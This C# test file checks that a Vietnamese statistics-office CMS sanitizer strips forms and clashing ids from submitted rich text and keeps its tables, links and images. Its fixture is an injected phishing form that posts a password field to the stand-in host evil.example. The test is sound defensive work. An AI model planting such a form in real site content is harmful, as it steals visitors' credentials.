using System.Net;
using CucThongKe.Contents.Models;
using CucThongKe.Core.Data;
using CucThongKe.Core.Hosting;
using CucThongKe.Tests.Workflows;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace CucThongKe.Tests.Security;

/// <summary>Rich text is text: no form asking a reader for a password, no control, no id or name that could take the place
/// of one of the site's own elements; tables, headings, links, images and lists stay.</summary>
public sealed class SanitizerTests() : WorkflowTestBase(DatabaseProvider.Sqlite)
{
    private const string Malicious =
        "<h2>Kết quả điều tra</h2>" +
        "<form action=\"https://evil.example/dang-nhap\" method=\"post\"><label>Mật khẩu <input type=\"password\" name=\"Input.Password\"></label>" +
        "<select name=\"x\"><option>1</option></select><textarea name=\"y\">z</textarea><button type=\"submit\">Đăng nhập lại</button></form>" +
        "<p id=\"main\" name=\"definition-json\">Đoạn văn</p>" +
        "<table><caption>Dân số</caption><thead><tr><th id=\"nam\" scope=\"col\">Năm</th></tr></thead><tbody><tr><td headers=\"nam\">2026</td></tr></tbody></table>" +
        "<ul><li><a href=\"#nam\">Về bảng</a></li><li><a href=\"https://www.gso.gov.vn/\">Tổng cục</a></li></ul>" +
        "<p><img src=\"/anh/1024/tin-tuc/anh.png\" alt=\"Biểu đồ\"></p>";

    private Task<string> StoredHtmlAsync(string id) => Site.WithScopeAsync(async s =>
    {
        var item = await s.GetRequiredService<CmsDbContext>().Set<ContentItem>().AsNoTracking().OrderByDescending(c => c.Id).FirstAsync(c => c.ContentItemId == id);
        return item.Content["HtmlBodyPart"]!["Html"]!.GetValue<string>();
    });

    private static void AssertOnlyText(string html)
    {
        foreach (var banned in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<label", "password", "name=", "id=\"main\"", "evil.example" })
        {
            Assert.DoesNotContain(banned, html, StringComparison.OrdinalIgnoreCase);
        }

        foreach (var kept in new[] { "<h2>Kết quả điều tra</h2>", "<table>", "<caption>Dân số</caption>", "<th id=\"nd-nam\" scope=\"col\">", "<td headers=\"nd-nam\">", "<a href=\"#nd-nam\">", "<a href=\"https://www.gso.gov.vn/\">", "<ul>", "<img src=\"/anh/1024/tin-tuc/anh.png\" alt=\"Biểu đồ\">", "<p id=\"nd-main\">Đoạn văn</p>" })
        {
            Assert.Contains(kept, html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_form_and_foreign_ids_sent_through_the_api_are_removed_and_the_text_stays()
    {
        await AddPeopleAsync();

        var response = await (await ApiAsync(Contributor)).PostAsync("/api/content", Json(new { contentType = "News", content = NewsContent("Tin có biểu mẫu lạ", Malicious) }));

        AssertStatus(HttpStatusCode.Created, response);
        AssertOnlyText(await StoredHtmlAsync((await ReadAsync(response))["contentItemId"]!.GetValue<string>()));
    }

    [Fact]
    public async Task A_form_pasted_into_the_back_office_editor_is_removed_and_the_text_stays()
    {
        await AddPeopleAsync();
        var browser = await SignedInAsync(Contributor);
        var token = await AntiforgeryTokenAsync(browser, "/admin/contents/create/News");

        var response = await browser.PostAsync("/admin/contents/create/News", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["__RequestVerificationToken"] = token, ["TitlePart.Title"] = "Tin dán từ trang lạ", ["News.Category.TermIds"] = "hoat-dong-cua-cuc", ["HtmlBodyPart.Html"] = Malicious,
        }));

        AssertStatus(HttpStatusCode.Redirect, response);
        var id = response.Headers.Location!.OriginalString.Split('/')[3];
        AssertOnlyText(await StoredHtmlAsync(id));
    }

    [Fact]
    public async Task Sanitising_twice_changes_nothing_the_second_time()
    {
        var once = Contents.Text.RichTextSanitizer.Sanitize(Malicious);

        Assert.Equal(once, Contents.Text.RichTextSanitizer.Sanitize(once));
    }
}
